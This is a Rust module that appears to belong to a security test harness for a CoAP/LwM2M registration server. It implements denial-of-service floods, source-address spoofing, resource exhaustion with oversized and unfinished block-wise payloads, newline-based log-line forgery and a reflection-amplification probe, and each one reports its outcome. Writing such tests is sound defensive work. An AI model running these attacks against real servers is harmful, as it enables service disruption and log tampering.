//! Attacks by datagrams without security.

use crate::bodies::Uploader;
use crate::flood::{Answers, Flood, From, Message, forged, sockets};
use crate::server::Target;
use crate::{Attack, Outcome, Sent};
use lwm2m_coap::{Code, OptionNumber};
use std::net::SocketAddr;
use std::time::Duration;

/// A message ID, which comes again after 64 sockets have had all of them.
fn id(number: u32) -> u16 {
    (number / 64) as u16
}

fn register(number: u32, endpoint: &str, lifetime: &str) -> Vec<u8> {
    let message = Message::post(id(number), "rd").query(&format!("ep={endpoint}"));
    message.query(lifetime).format(40).payload(b"</3/0>")
}

fn flood(
    target: &Target,
    from: From,
    make: impl FnMut(u32) -> Vec<u8> + Send + 'static,
    tell: impl FnMut(&Answers) -> Outcome<String> + Send + 'static,
) -> Outcome<Box<dyn Attack>> {
    Ok(Box::new(Flood::new(target.at.coap, from, Box::new(make), Box::new(tell))))
}

pub(crate) fn registers(target: &Target) -> Outcome<Box<dyn Attack>> {
    let make = |number: u32| register(number, &format!("{number:x}"), "lt=0");
    let tell = |answers: &_| Ok(format!("{answers}"));
    flood(target, From::Sockets(sockets(64)?), make, tell)
}

pub(crate) fn addresses(target: &Target) -> Outcome<Box<dyn Attack>> {
    let make = |number: u32| Message::new(number as u16, Code::GET).payload(b"");
    let tell = |_: &_| Ok("one address each".to_owned());
    flood(target, From::Forged, make, tell)
}

pub(crate) fn fat_updates(target: &Target) -> Outcome<Box<dyn Attack>> {
    let link = |number| format!("</3303/{number}>;a;b;c;d;e;f;g;h;i;j;k;l;m;n;o;p");
    let list: Vec<_> = (0..960).map(link).collect();
    let (mut sockets, mut ids) = (Vec::new(), Vec::new());
    for number in 0..16 {
        let mut uploader = Uploader::new(target.at.coap)?;
        let name = format!("ep=fat-{number}");
        let options =
            |message: Message| message.path("rd").query(&name).query("lt=86400").format(40);
        let answer = uploader.upload(options, list.join(",").as_bytes(), &mut Sent::default())?;
        ids.push(answer.location.ok_or_else(|| format!("the fat list: {}", answer.code))?);
        sockets.push(uploader.into_socket()?);
    }
    let stream = crate::bodies::streams(target, 1)?;
    let make = move |number: u32| {
        let place = number as usize % ids.len();
        let id = ids.get(place).map_or("", String::as_str);
        Message::post((number / 16 + 1_000) as u16, "rd").path(id).payload(b"")
    };
    let tell = move |answers: &_| {
        let _ = &stream;
        Ok(format!("{answers}"))
    };
    flood(target, From::Sockets(sockets), make, tell)
}

pub(crate) fn bodies(target: &Target) -> Outcome<Box<dyn Attack>> {
    let make = |number| {
        let message = Message::post(id(number), "rd").query(&format!("ep={number:x}"));
        message.format(40).block(0, true).payload(&[b' '; 1024])
    };
    let tell = |answers: &_| Ok(format!("{answers}"));
    flood(target, From::Sockets(sockets(64)?), make, tell)
}

pub(crate) fn log_lines(target: &Target) -> Outcome<Box<dyn Attack>> {
    let make = |number: u32| {
        let name = match number % 2 {
            0 => format!("x\n2026-01-01 INFO address=6.6.6.6:1 {number}"),
            _ => format!("x address=6.6.6.6:1 {number}"),
        };
        register(number, &name, "lt=60")
    };
    let log = target.log();
    let tell = move |_: &_| {
        let text = std::fs::read_to_string(&log)?;
        let forged = text.lines().any(|line| line.starts_with("2026-01-01"));
        let forged = if forged { "A LINE WAS FORGED" } else { "no line forged" };
        Ok(format!("{} lines of log, {forged}", text.lines().count()))
    };
    flood(target, From::Sockets(sockets(64)?), make, tell)
}

/// Sends each kind of request from an address that has proven nothing, and looks at the answer.
struct Reflection {
    server: SocketAddr,
    number: u32,
    answered: u32,
    /// The bytes of an answer for each of its request.
    most: f64,
}

pub(crate) fn reflection(target: &Target) -> Outcome<Box<dyn Attack>> {
    Ok(Box::new(Reflection { server: target.at.coap, number: 0, answered: 0, most: 0.0 }))
}

fn kinds(number: u32) -> Vec<u8> {
    let (id, get) = (number as u16, |code| Message::new(number as u16, code));
    let critical = OptionNumber(65_001);
    match number % 16 {
        0 => vec![0x40, 0x00, 0x12, 0x34],
        1 => get(Code::GET).payload(b""),
        2 => get(Code::GET).path(".well-known").path("core").payload(b""),
        3 => get(Code::GET).option(critical, b"").payload(b""),
        4 => get(Code::PUT).path("rd").payload(b"x"),
        5 => get(Code::DELETE).path("rd").path("x").payload(b""),
        6 => get(Code::FETCH).payload(b""),
        7 => Message::post(id, "rd").payload(b""),
        8 => Message::post(id, "rd").query("ep=victim").query("lt=9").payload(b"</3>"),
        9 => Message::post(id, "rd").query("ep=z").query("lwm2m=9").payload(b"</3>"),
        10 => Message::post(id, "bs").query("ep=victim").payload(b""),
        11 => Message::post(id, "dp").payload(b"x"),
        12 => Message::post(id, "rd").block(0, true).payload(&[b' '; 1024]),
        13 => Message::post(id, "rd").block(7, false).payload(b"x"),
        14 => Message::post(id, "").payload(b""),
        _ => vec![0x4f, 0x01, 0x00, 0x00],
    }
}

impl Attack for Reflection {
    fn step(&mut self, sent: &mut Sent) -> Outcome<()> {
        self.number += 1;
        let (socket, message) = (forged(self.number)?, kinds(self.number));
        socket.set_read_timeout(Some(Duration::from_millis(5)))?;
        socket.send_to(&message, self.server)?;
        sent.add(message.len());
        let (mut buffer, mut bytes) = ([0; 2048], 0);
        while let Ok(length) = socket.recv(&mut buffer) {
            bytes += length;
        }
        self.answered += u32::from(bytes > 0);
        self.most = self.most.max(bytes as f64 / message.len() as f64);
        Ok(())
    }

    fn outcome(&mut self) -> Outcome<String> {
        Ok(format!("{} answered, at most {:.2} bytes for one", self.answered, self.most))
    }
}
